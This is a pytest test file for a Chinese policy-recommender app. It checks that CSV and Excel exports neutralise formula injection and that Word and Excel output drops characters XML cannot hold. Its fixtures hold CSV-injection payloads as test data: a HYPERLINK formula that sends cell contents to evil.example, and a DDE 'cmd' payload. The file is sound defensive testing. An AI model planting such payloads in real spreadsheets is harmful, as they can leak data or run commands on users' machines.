"""Safe output: formula-like cells inert in every CSV and XLSX written (OWASP CSV injection), characters XML
cannot hold kept out of Excel and Word, and the Word sheet in a Chinese font with the language zh-CN."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from workbooks import as_excel_reads, roster_workbook

from recommender import coverage
from recommender.cli import main
from recommender.consultation import consult
from recommender.engine import Recommender
from recommender.profile import FieldError, parse_profile
from recommender.roster import BadRow
from recommender.safe_output import FORMULA_TRIGGERS, csv_bytes, safe_csv_cell, xml_text
from recommender.sheets import CELL_MOST, FONT, cell_value, consultation_docx, write_sheets
from webapp.ui import library_push, push_view, registry_view
from webapp.ui.registry_data import Record

CASES = Path(__file__).parent / "field_cases"
AS_OF = dt.date(2024, 6, 30)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 21 5555", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"]
FORMULAS += ["\t=1+1", "\r=1+1"]
BAD_XML = "甲\x0b乙\x00丙\x1f丁\ufffe戊\uffff己\ud800庚"  # a vertical tab from Word, NUL, U+FFFE/FFFF, a lone surrogate
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
THEME_ATTRS = [f"{W}{a}" for a in ("asciiTheme", "eastAsiaTheme", "hAnsiTheme", "cstheme")]


@pytest.fixture(scope="module")
def engine() -> Recommender:
    return Recommender.load()


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _cells(book: openpyxl.Workbook) -> list[Any]:
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


class _FakeStreamlit:
    """Just enough of ``streamlit`` for a page helper that shows a table and offers it as a download."""

    def __init__(self) -> None:
        self.downloads: list[bytes] = []

    def dataframe(self, *args: Any, **kwargs: Any) -> None:
        pass

    def download_button(self, label: str, data: bytes, **kwargs: Any) -> None:
        self.downloads.append(data)


# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_csv_cell_gets_a_leading_quote(text):
    assert safe_csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["上海某公司", "a=b", "", None, -5, -5.5, 0, True])
def test_other_csv_cells_and_numbers_stay_as_they_are(value):
    assert safe_csv_cell(value) == value and type(safe_csv_cell(value)) is type(value)


def test_csv_bytes_quotes_formula_text_but_not_negative_numbers():
    frame = pd.DataFrame({"=名称": FORMULAS, "金额": [-5, -1, 0, 3, -7, 2], "说明": ["正常", *FORMULAS[1:]]})
    data = csv_bytes(frame)
    assert data.startswith("\ufeff".encode())
    header, *rows = _csv_rows(data)
    assert header == ["'=名称", "金额", "说明"]
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows] == ["-5", "-1", "0", "3", "-7", "2"]  # numbers, not neutralised
    assert rows[0][2] == "正常"
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["金额"].tolist() == [-5, -1, 0, 3, -7, 2]


def test_every_csv_download_uses_the_shared_writer():
    assert coverage.csv_bytes is csv_bytes  # the coverage page's downloads and the population CSV
    assert library_push.csv_bytes is csv_bytes  # 政策库管理's 谁该知道 list


def test_the_registry_page_csv_is_inert(monkeypatch):
    fake = _FakeStreamlit()
    monkeypatch.setattr(registry_view, "st", fake)
    record = Record(
        id=1,
        name=FORMULAS[0],
        profile=parse_profile({"name": "某公司", "region": "浦东新区", "industry": "集成电路"}),
        counsellor="+86 21 5555",
        stage="储备库",
        version=3,
        updated_by="@admin",
        updated_at=dt.datetime(2025, 1, 2, 3, 4, tzinfo=dt.UTC),
    )
    registry_view.listing([record])
    [data] = fake.downloads
    header, row = _csv_rows(data)
    values = dict(zip(header, row, strict=True))
    assert values["企业名称"] == "'" + FORMULAS[0]
    assert values["专员"] == "'+86 21 5555" and values["最近修改人"] == "'@admin"
    assert values["版本"] == "3"


def test_the_push_page_csv_is_inert(monkeypatch):
    fake = _FakeStreamlit()
    monkeypatch.setattr(push_view, "st", fake)
    frame = pd.DataFrame({"企业": FORMULAS, "差额": [-1] * len(FORMULAS)})
    push_view._csv(frame, "推送名单", "x.csv", "k")
    [data] = fake.downloads
    rows = _csv_rows(data)[1:]
    assert all(r[0].startswith("'") for r in rows) and {r[1] for r in rows} == {"-1"}


# --- XLSX ---------------------------------------------------------------------------------------


def _saved(rows: list[list[Any]]) -> list[tuple[Any, ...]]:
    """``rows`` as the roster workbook writes cells (``cell_value``, then ``write_sheets``: text columns quoted),
    read back: the cells of each row under the header."""
    from recommender.sheets import _Part

    columns = [(f"列{i}", 10) for i in range(max(len(r) for r in rows))]
    names = [name for name, _ in columns]
    records = iter([dict(zip(names, [cell_value(v) for v in row], strict=False)) for row in rows])
    out = io.BytesIO()
    write_sheets([_Part("表", columns, records, True)], out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    return list(sheet.iter_rows(min_row=2, max_row=len(rows) + 1, max_col=len(columns)))


def test_xlsx_formula_text_is_text_as_typed_and_numbers_stay_numbers():
    [cells] = _saved([[*FORMULAS, -5, -2.5, "-5"]])
    for cell, text in zip(cells, FORMULAS, strict=False):
        assert (as_excel_reads(cell.value), cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert (cells[-3].value, cells[-3].data_type) == (-5, "n")
    assert (cells[-2].value, cells[-2].data_type) == (-2.5, "n")
    assert (cells[-1].value, cells[-1].data_type) == ("-5", "s")  # text in a text column is text
    assert not any(c.data_type == "f" for c in cells)


def test_xlsx_text_that_looks_like_a_number_or_a_link_stays_text_as_typed():
    texts = ["00123", "1e5", "3.14", "2024-06-30", "http://evil.example/x", "mailto:a@b.cn", "'引号开头", "TRUE"]
    [cells] = _saved([texts])
    assert [(c.value, c.data_type, c.quotePrefix, c.hyperlink) for c in cells] == [
        (t, "s", True, None)
        for t in texts  # a leading apostrophe is the text's own, shown, as before
    ]


def test_xlsx_empty_text_is_an_empty_cell_a_long_one_is_cut_and_other_values_are_refused():
    [cells] = _saved([["", None, "x", "长" * (CELL_MOST + 5)]])
    assert [c.value for c in cells] == [None, None, "x", "长" * CELL_MOST]  # Excel's limit: the writer refuses more
    for value in (True, dt.date(2024, 6, 30), b"bytes"):
        with pytest.raises(TypeError, match=type(value).__name__):
            cell_value(value)


def test_the_control_characters_made_spaces_are_those_openpyxl_refuses():
    for ch in map(chr, range(0x10000)):
        assert bool(ILLEGAL_CHARACTERS_RE.match(ch)) == (xml_text(ch) == " " != ch), hex(ord(ch))


def test_xlsx_cells_drop_characters_xml_cannot_hold():
    [[cell]] = _saved([[BAD_XML]])
    assert cell.value == "甲 乙 丙 丁戊己庚"


def test_the_batch_summary_of_the_formula_roster_is_inert_text(tmp_path, capsys):
    roster = CASES / "roster_formula_injection.csv"
    out = tmp_path / "汇总.xlsx"
    assert main(["batch", str(roster), "-o", str(out), "--as-of", "2025-06-30", "--top", "3"]) == 0
    with roster.open(encoding="utf-8-sig", newline="") as f:
        typed = {v for row in list(csv.reader(f))[1:] for v in row if v.startswith(FORMULA_TRIGGERS)}
    assert len(typed) == 3
    cells = _cells(openpyxl.load_workbook(out))
    assert not any(c.data_type == "f" for c in cells)
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in cells)  # no stray apostrophe
    found = {c.value: c for c in cells if c.value in typed}
    assert set(found) == typed
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values())


def test_the_workbook_holds_text_with_characters_xml_cannot_hold(engine):
    c = consult(engine, parse_profile({"name": "某公司", "region": "浦东新区"}), as_of=AS_OF, top=2)
    c.profile = c.profile.model_copy(update={"name": BAD_XML})
    c.measures[0].title = BAD_XML
    bad = [BadRow(7, BAD_XML, [FieldError("region", "required", BAD_XML)])]
    book = openpyxl.load_workbook(io.BytesIO(roster_workbook([(2, c)], bad, as_of=AS_OF)))
    assert book["企业汇总"]["B2"].value == xml_text(BAD_XML)
    assert book["措施明细"]["G2"].value == xml_text(BAD_XML)
    assert book["未导入行"]["B2"].value == xml_text(BAD_XML)


# --- Word ---------------------------------------------------------------------------------------


def test_the_word_sheet_holds_text_with_characters_xml_cannot_hold(engine):
    profile = parse_profile({"name": "某公司", "region": "浦东新区", "description": "芯片设计"})
    c = consult(engine, profile, as_of=AS_OF, top=2)
    c.profile = c.profile.model_copy(update={"name": BAD_XML, "description": BAD_XML})
    c.measures[0].title = c.measures[0].own_title = c.measures[0].text = BAD_XML
    c.measures[0].gaps = [BAD_XML]
    document = docx.Document(io.BytesIO(consultation_docx(c)))
    text = "\n".join([p.text for p in document.paragraphs] + [t.text for t in document.tables[0]._cells])
    assert text.count(xml_text(BAD_XML)) >= 5  # title line, measure heading, 条款原文, 尚缺 and the profile table
    assert document.core_properties.title == f"{xml_text(BAD_XML)} 政策咨询单"


@pytest.mark.parametrize(
    ("command", "case"),
    [
        ("batch", "roster_control_chars.csv"),
        ("batch", "roster_control_char_industry.csv"),
        ("sheet", "profile_control_char.json"),
    ],
)
def test_field_cases_with_a_vertical_tab_are_written(tmp_path, capsys, command, case):
    out = tmp_path / ("out.xlsx" if command == "batch" else "out.docx")
    args = [command, str(CASES / case), "-o", str(out), "--as-of", "2025-06-30"]
    if command == "batch":
        args += ["--zip", str(tmp_path / "sheets.zip")]
    assert main(args) == 0, capsys.readouterr().err
    if command == "batch":
        assert openpyxl.load_workbook(out)["企业汇总"].max_row >= 2
        assert zipfile.ZipFile(tmp_path / "sheets.zip").namelist()
    else:
        assert "上海示例云图软件有限公司" in docx.Document(str(out)).paragraphs[1].text


def _styles_and_used(docx_bytes: bytes) -> tuple[Any, set[str]]:
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as archive:
        styles = etree.fromstring(archive.read("word/styles.xml"))
        body = archive.read("word/document.xml").decode()
    used = set(re.findall(r'<w:(?:pStyle|tblStyle|rStyle) w:val="([^"]+)"', body))
    return styles, used


def test_every_style_of_the_word_sheet_is_in_a_chinese_font_and_the_language_is_zh_cn(tmp_path, capsys):
    out = tmp_path / "sheet.docx"
    assert main(["sheet", str(CASES / "profile_font.json"), "-o", str(out), "--as-of", "2025-06-30"]) == 0
    styles, used = _styles_and_used(out.read_bytes())
    assert used >= {"Title", "Heading1", "Heading2", "TableGrid"}
    by_id = {s.get(f"{W}styleId"): s for s in styles.iter(f"{W}style")}
    for style_id in used | {"Normal"}:
        fonts = by_id[style_id].find(f"{W}rPr/{W}rFonts")
        assert fonts is not None and fonts.get(f"{W}eastAsia") == FONT, style_id
    for fonts in styles.iter(f"{W}rFonts"):  # docDefaults, every style and table-style condition
        assert not any(fonts.get(a) for a in THEME_ATTRS), etree.tostring(fonts)
        assert fonts.get(f"{W}eastAsia") == FONT
    [lang] = styles.findall(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang")
    assert lang.get(f"{W}eastAsia") == "zh-CN"
    assert docx.Document(str(out)).core_properties.language == "zh-CN"


# --- any text -----------------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_csv_cell_starts_a_formula(text):
    assert not safe_csv_cell(text).startswith(FORMULA_TRIGGERS)
    assert safe_csv_cell(text) in (text, "'" + text)


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(exclude_categories=())))  # lone surrogates included
def test_any_text_is_written_to_xlsx_and_docx(text):
    cleaned = xml_text(text)
    assert not ILLEGAL_CHARACTERS_RE.search(cleaned)  # what openpyxl refuses
    [[cell]] = _saved([[text]])
    assert cell.data_type != "f" and (cell.value if cell.value is None else as_excel_reads(cell.value)) == (
        cleaned or None
    )
    if text.startswith(FORMULA_TRIGGERS):
        assert cell.data_type == "s" and cell.quotePrefix
    document = docx.Document()
    document.add_paragraph(cleaned)
    document.save(io.BytesIO())
